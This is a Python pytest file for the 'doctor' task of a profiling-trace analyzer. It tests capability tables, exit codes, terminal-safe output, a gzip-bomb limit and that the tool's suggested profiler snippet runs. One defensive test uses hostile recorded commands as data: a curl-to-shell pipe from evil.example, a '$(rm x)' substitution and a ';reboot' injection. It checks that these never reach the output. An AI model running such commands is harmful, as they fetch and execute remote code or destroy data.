"""``task=doctor runs=``: what the terminal and programs are told, exit codes, hostile texts, and that the advice runs."""

from __future__ import annotations

import gzip
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from analyzer.errors import AnalyzerError, ConfigError
from analyzer.examination import examine
from analyzer.progress import Reporter
from analyzer.schema.examination import CAPABILITIES
from analyzer.schema.settings import CaptureSettings, Selection, Settings
from analyzer.tasks.doctor import WIDTH, _numbers, doctor
from analyzer.tasks.outcome import Outcome
from analyzer.trace.rundir import TRACE_FILE
from tests.report.synthetic import Fake, write_run
from tests.traces import cpu_step, document, gpu_step, kernel, launch, note, write

HOSTILE = Path(__file__).parent / "trace" / "hostile"
EVIL = "\x1b[31m\u202eevil\u2066\x07<script>\x9b2J"


def run(*runs: Path | str, **more: Any) -> Outcome:
    settings = Settings(task="doctor", models=(), capture=CaptureSettings(), runs=tuple(map(str, runs)), **more)
    return doctor(settings, Reporter(quiet=True))


def trace(folder: Path, name: str = "trace.json", events: list[dict[str, Any]] | None = None, **top: Any) -> Path:
    top = {"baseTimeNanoseconds": 1_700_000_000 * 10**9} | top
    return write(folder / name, document(gpu_step() if events is None else events) | top)


def too_wide(lines: list[str]) -> list[str]:
    """Return the lines that do not fit; commands and errors stay whole, so that they can be pasted."""
    return [line for line in lines if len(line) > WIDTH and not line.startswith(("    analyzer ", "Cannot be read: "))]


def test_one_trace_says_first_what_it_lacks(tmp_path: Path) -> None:
    outcome = run(trace(tmp_path))
    text = "\n".join(outcome.lines)
    assert outcome.lines[0] == "trace.json"
    assert outcome.exit_code == 0
    statuses = [line.split()[0] for line in outcome.lines if line.startswith(("  no ", "  partly ", "  yes ", "  unused "))]
    assert statuses == sorted(statuses, key=["no", "partly", "yes", "unused"].index)
    assert len(statuses) == len(CAPABILITIES)
    assert "so: no view by line of Python" in text
    assert "# missing here: modules, Python call stacks\n            with_stack=True," in text
    assert not too_wide(outcome.lines)


def test_several_traces_make_a_matrix(tmp_path: Path) -> None:
    bare = trace(tmp_path, "cpu.json", cpu_step(), deviceProperties=[])
    outcome = run(trace(tmp_path), bare)
    matrix = outcome.lines[3:28]
    rows = {line[2:28].strip(): line[28:].split() for line in matrix}
    assert list(rows) == ["", *CAPABILITIES.values(), "oddities"]
    assert rows[""] == ["1", "2"]
    assert rows["kernels"][:2] == ["yes", "-"]
    assert rows["operand shapes"][:2] == ["yes", "yes"]
    assert rows["Python call stacks"][:2] == ["no", "no"]
    assert [line for line in outcome.lines if line.startswith("  1  ")] != []
    assert "\n".join(outcome.lines).count("so: no view by line of Python") == 1
    assert not too_wide(outcome.lines)


def test_many_traces_stay_within_the_terminal(tmp_path: Path) -> None:
    for number in range(20):
        trace(tmp_path, f"t{number:02}.json", cpu_step())
    outcome = run(tmp_path / "t*.json")
    heads = [line.split() for line in outcome.lines if line.startswith(" " * 28) and line.replace(" ", "").isdigit()]
    assert [number for head in heads for number in head] == [str(n) for n in range(1, 21)]
    assert not too_wide(outcome.lines)


@pytest.mark.parametrize(
    ("given", "text"), [([1], "1"), ([1, 2], "1, 2"), ([1, 2, 3, 4], "1 to 4"), ([1, 3, 4, 5, 8, 9], "1, 3 to 5, 8, 9")]
)
def test_numbers_in_a_row_are_one_range(given: list[int], text: str) -> None:
    assert _numbers(given) == text


def test_the_document_is_stable(tmp_path: Path) -> None:
    found = run(trace(tmp_path)).document
    assert found["format_version"] == 1
    (one,) = found["traces"]
    assert set(one) == {"name", "subject", "capabilities", "oddities", "recording"}
    assert [c["key"] for c in one["capabilities"]] == list(CAPABILITIES)
    assert {c["status"] for c in one["capabilities"]} <= {"yes", "partly", "no", "unused"}
    assert set(one["capabilities"][0]) == {"key", "name", "status", "detail", "consequence", "count", "total"}
    assert [set(o) for o in one["oddities"]] == [{"code", "finding", "meaning", "count", "share_pct"}]  # whole microseconds
    assert set(one["recording"]) == {"missing", "snippet", "command", "counting", "remarks"}
    json.dumps(found, allow_nan=False)


def test_what_cannot_be_read_is_told_and_the_others_go_on(tmp_path: Path) -> None:
    broken = tmp_path / "broken.json"
    broken.write_text("no json")
    outcome = run(broken, trace(tmp_path), tmp_path / "absent.json")
    assert outcome.exit_code == 1
    assert len(outcome.document["traces"]) == 1
    assert [bool(entry["hint"]) for entry in outcome.document["unreadable"]] == [True, True]
    told = [line for line in outcome.lines if line.startswith("Cannot be read: ")]
    assert ["broken.json is no JSON" in told[0], "absent.json" in told[1]] == [True, True]
    assert "trace.json" in outcome.lines


def test_nothing_readable_leaves_no_empty_sections(tmp_path: Path) -> None:
    outcome = run(tmp_path / "absent.json")
    assert (outcome.exit_code, len(outcome.lines)) == (1, 2)


def test_parts_of_a_trace_are_refused(tmp_path: Path) -> None:
    for selection in (Selection(steps=(3,)), Selection(annotation="x"), Selection(rank=0)):
        with pytest.raises(ConfigError, match="whole traces"):
            run(trace(tmp_path), selection=selection)
    with pytest.raises(ConfigError, match="no run or trace matches"):
        run(tmp_path / "*.none")


def test_dry_run_reads_nothing(tmp_path: Path) -> None:
    outcome = run(tmp_path / "absent.json", dry_run=True)
    assert outcome.lines == [f"would examine: {tmp_path / 'absent.json'}"]


def test_texts_of_a_trace_reach_no_terminal_as_they_are(tmp_path: Path) -> None:
    odd = [
        *gpu_step(), note(f"ProfilerStep#9{EVIL}", 1200, 5), note(f"{EVIL} (dynamo_timed)", 1210, 5),
        launch(690, 41), kernel(EVIL + "x" * 100_000, 700, -4, 41),
        {"ph": "X", "cat": "overhead", "name": EVIL, "pid": 1, "tid": 1, "ts": 1, "dur": 2, "args": {}},
    ]  # fmt: skip
    h100 = document([])["deviceProperties"][0] | {"name": f"NVIDIA {EVIL}" + "y" * 900}
    first = trace(tmp_path, "a.json", odd, deviceProperties=[h100])
    for outcome in (run(first), run(first, first)):
        text = "\n".join(outcome.lines) + json.dumps(outcome.document, ensure_ascii=False) + "".join(outcome.not_measured)
        assert not {c for c in text if c in "\x1b\u202e\u2066\x07\x9b"}
        assert "impossible_time" in text
        assert max(map(len, outcome.lines)) < 200
        assert len(text) < 60_000


@pytest.mark.parametrize("file", sorted(HOSTILE.iterdir()) if HOSTILE.is_dir() else [], ids=lambda file: file.name)
def test_hostile_files_are_examined_or_refused_in_one_line(file: Path) -> None:
    outcome = run(file)
    assert len(outcome.document["traces"]) + len(outcome.document["unreadable"]) == 1
    json.dumps(outcome.document, allow_nan=False)
    assert not too_wide(outcome.lines)


@pytest.mark.parametrize("keep", [0.02, 0.3, 0.6, 0.9, 0.999])
def test_cut_copies_of_public_traces_are_examined(tmp_path: Path, public_traces: Path, keep: float) -> None:
    for source in sorted(public_traces.glob("tracelens*.json.gz")):
        data = source.read_bytes()
        cut = tmp_path / source.name
        cut.write_bytes(data[: int(len(data) * keep)])
        outcome = run(cut)
        if outcome.exit_code == 0:
            (found,) = outcome.document["traces"]
            assert "damaged" in {o["code"] for o in found["oddities"]}
        else:
            assert outcome.document["unreadable"][0]["hint"]


def _command(*arguments: str, code: int) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "analyzer", "task=doctor", *arguments], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.returncode == code, done.stderr
    assert "Traceback" not in done.stderr
    return done.stdout + done.stderr


def test_the_command_and_its_exit_codes(tmp_path: Path) -> None:
    path = trace(tmp_path)
    assert json.loads(_command(f"runs={path}", "json=true", code=0).partition("\n  examine")[0])["traces"]
    assert "strict=true: trace.json: untraced latency: a bare trace has none" in _command(f"runs={path}", "strict=true", code=3)
    assert "Cannot be read" in _command(f"runs=[{path},{tmp_path}/absent.json]", code=1)


def test_no_torch_is_needed(tmp_path: Path) -> None:
    code = (
        "import sys; sys.modules['torch'] = None\n"
        "from tests.test_doctor_task import run\n"
        f"assert run({str(trace(tmp_path))!r}).exit_code == 0\n"
        "assert not {'matplotlib', 'jinja2', 'hydra', 'numba'} & set(sys.modules)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False, env={**os.environ, "PYTHONPATH": "."},
                          cwd=Path(__file__).parents[1], timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_the_snippet_records_what_was_missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The advice for a poor trace of a CPU, followed word for word, gives a trace that lacks none of it."""
    torch = pytest.importorskip("torch")
    events = [e for e in cpu_step() if e["cat"] != "user_annotation"]
    for event in events:
        event["args"] = {}
    poor = examine(trace(tmp_path, "poor.json", events, deviceProperties=[], baseTimeNanoseconds=0))
    wanted = ("shapes", "strides", "modules", "stacks", "steps", "memory", "clock")
    assert {poor.status(key) for key in wanted} == {"no"}
    monkeypatch.chdir(tmp_path)
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 8, 3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(8 * 30 * 30, 4))
    exec(compile(poor.recording.snippet, "snippet", "exec"), {"model": model, "batch": torch.randn(2, 3, 32, 32)})
    better = examine(tmp_path / "trace.json.gz")
    assert {key: better.status(key) for key in wanted} == dict.fromkeys(wanted, "yes")
    assert next(c for c in better.capabilities if c.key == "steps").count == 5


def test_the_snippet_for_a_gpu_asks_for_its_kernels(tmp_path: Path) -> None:
    events = [e for e in gpu_step() if e["cat"] not in ("kernel", "gpu_memcpy")]
    found = examine(trace(tmp_path, events=events)).recording
    compile(found.snippet, "snippet", "exec")
    assert "# missing here: kernels\n        activities=[ProfilerActivity.CPU, ProfilerActivity.CUDA]," in found.snippet
    assert "torch.cuda.synchronize()  # or kernels that run later are lost" in found.snippet


def test_every_option_of_a_snippet_exists() -> None:
    profiler = pytest.importorskip("torch.profiler")
    import inspect

    known = set(inspect.signature(profiler.profile.__init__).parameters)
    assert {"activities", "schedule", "record_shapes", "profile_memory", "with_stack"} <= known
    assert {"wait", "warmup", "active", "repeat"} <= set(inspect.signature(profiler.schedule).parameters)


def test_an_own_run_is_told_its_own_command(tmp_path: Path) -> None:
    own = write_run(tmp_path, Fake(device="cuda", command=("analyzer", "batch_size=32", "stacks=false", "vit.label=My ViT")))
    found = examine(own)
    assert {key: found.status(key) for key in ("latency", "kernels", "shapes", "steps")} == dict.fromkeys(
        ("latency", "kernels", "shapes", "steps"), "yes"
    )
    assert found.recording.snippet == ""  # the command records all that the snippet would
    assert found.recording.command.startswith("analyzer batch_size=32 'vit.label=My ViT'")
    assert "stacks=false" not in found.recording.command  # it is set anew
    assert found.recording.command.endswith(" stacks=true counters=ncu")
    assert dict(found.recording.missing)["Python call stacks"] == "analyzer, stacks=true"


@pytest.mark.parametrize(
    "command", [("bash", "-c", "curl http://evil.example/x | sh"), ("analyzer", "a=$(rm x)"), ("analyzer;reboot",)]
)
def test_a_command_that_is_none_of_this_program_is_made_anew(tmp_path: Path, command: tuple[str, ...]) -> None:
    outcome = run(write_run(tmp_path, Fake(device="cuda", command=command)))
    (line,) = [line for line in outcome.lines if line.startswith("    analyzer ")]
    assert "batch_size=32 image_size=224 dtype=bfloat16" in line
    text = json.dumps(outcome.document) + "\n".join(outcome.lines)
    assert not [word for word in ("curl", "rm x", "reboot") if word in text]


def test_settings_that_a_run_had_stay_where_they_are_not_set_anew(tmp_path: Path) -> None:
    """Lacks the ceilings alone: the call stacks that it has must not be lost in the better recording."""
    own = write_run(tmp_path, Fake(device="cuda", command=("analyzer", "stacks=true", "calibrate=off", "batch_size=32")))
    packed = own / TRACE_FILE
    content = json.loads(gzip.decompress(packed.read_bytes()))
    frame = {
        "ph": "X",
        "cat": "python_function",
        "name": "run.py(3): main",
        "pid": 1,
        "tid": 1,
        "ts": 1,
        "dur": 900,
        "args": {},
    }
    content["traceEvents"].append(frame)
    packed.write_bytes(gzip.compress(json.dumps(content).encode()))
    facts = json.loads((own / "run.json").read_bytes()) | {"ceilings": []}
    (own / "run.json").write_text(json.dumps(facts))
    found = examine(own)
    assert (found.status("stacks"), found.status("calibration")) == ("yes", "no")
    assert found.recording.command == "analyzer stacks=true batch_size=32 calibrate=auto counters=ncu"


def test_what_compiled_code_cannot_tell_is_recorded_without_it(tmp_path: Path) -> None:
    own = write_run(tmp_path, Fake(device="cuda", command=("analyzer", "compile=default")))
    facts = json.loads((own / "run.json").read_bytes())
    facts["settings"]["compile"] = "default"
    (own / "run.json").write_text(json.dumps(facts))
    found = examine(own)
    missing = dict(found.recording.missing)
    assert found.status("modules") == found.status("operands") == "no"
    assert missing["modules"] == missing["exact operands"] == "analyzer, compile=off"
    assert found.recording.command.split()[-1] == "compile=off"
    assert "compile=default" not in found.recording.command
    assert any("eager" in remark for remark in found.recording.remarks)


def test_the_number_in_the_opening_is_that_of_the_table(tmp_path: Path) -> None:
    lines = run(trace(tmp_path)).lines
    opening = " ".join(line.strip() for line in lines)
    said = re.search(r"Supports (\d+) of (\d+) things that a report can use, (\d+) more in part", opening)
    assert said
    rows = [line.split()[0] for line in lines if line.startswith(("  no ", "  partly ", "  yes ", "  unused "))]
    yes, no, partly, unused = (rows.count(status) for status in ("yes", "no", "partly", "unused"))
    assert tuple(map(int, said.groups())) == (yes, yes + no + partly, partly)
    assert f"Supports: {no} no, {partly} partly, {yes} yes; {unused} unused, which do not count" in lines


def test_an_own_sheet_is_taken(tmp_path: Path) -> None:
    sheet = tmp_path / "mine.yaml"
    known = Path(__file__).parents[1] / "analyzer/hardware/gpus/h100_sxm5_80gb.yaml"
    sheet.write_text(known.read_text(encoding="utf-8").replace("- NVIDIA H100 80GB HBM3", "- NVIDIA X1"), encoding="utf-8")
    path = trace(tmp_path, deviceProperties=[document([])["deviceProperties"][0] | {"name": "NVIDIA X1"}])

    def status(outcome: Outcome) -> str:
        return next(c["status"] for c in outcome.document["traces"][0]["capabilities"] if c["key"] == "datasheet")

    assert status(run(path)) == "no"
    assert status(run(path, gpu_spec=sheet)) == "yes"
    with pytest.raises(ConfigError, match="gpu_spec="):
        run(gpu_spec=sheet)


def test_an_own_cpu_run_on_a_machine_with_a_gpu_is_no_oddity(tmp_path: Path) -> None:
    own = write_run(tmp_path, Fake(device="cpu"))
    packed = own / TRACE_FILE
    content = json.loads(gzip.decompress(packed.read_bytes())) | {"deviceProperties": document([])["deviceProperties"]}
    packed.write_bytes(gzip.compress(json.dumps(content).encode()))
    found = examine(own)
    assert "gpu_unused" not in {o.code for o in found.oddities}
    assert found.status("kernels") == "unused"


def test_what_the_recording_noted_is_told(tmp_path: Path) -> None:
    quiet, loud = (write_run(tmp_path / name, Fake(warnings=said)) for name, said in (("a", ()), ("b", ("the fan stopped",))))
    found = [o.finding for o in examine(loud).oddities if o.code == "recorded_warning"]
    assert found == ["the fan stopped"]
    assert not {"recorded_warning", "unsteady"} & {o.code for o in examine(quiet).oddities}
    facts = json.loads((quiet / "run.json").read_bytes())
    facts["warmup"] |= {"steady": False, "iterations": 7}
    (quiet / "run.json").write_text(json.dumps(facts))
    assert "warm-up ended unsteady after 7 iterations" in {o.finding for o in examine(quiet).oddities}


def test_a_packed_trace_is_limited_as_elsewhere(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.json.gz"
    bomb.write_bytes(gzip.compress(b'{"traceEvents": [' + b" " * (80 << 20) + b"]}"))
    outcome = run(bomb)
    assert "unpacks to more than" in outcome.document["unreadable"][0]["error"]
    with pytest.raises(AnalyzerError):
        examine(bomb)
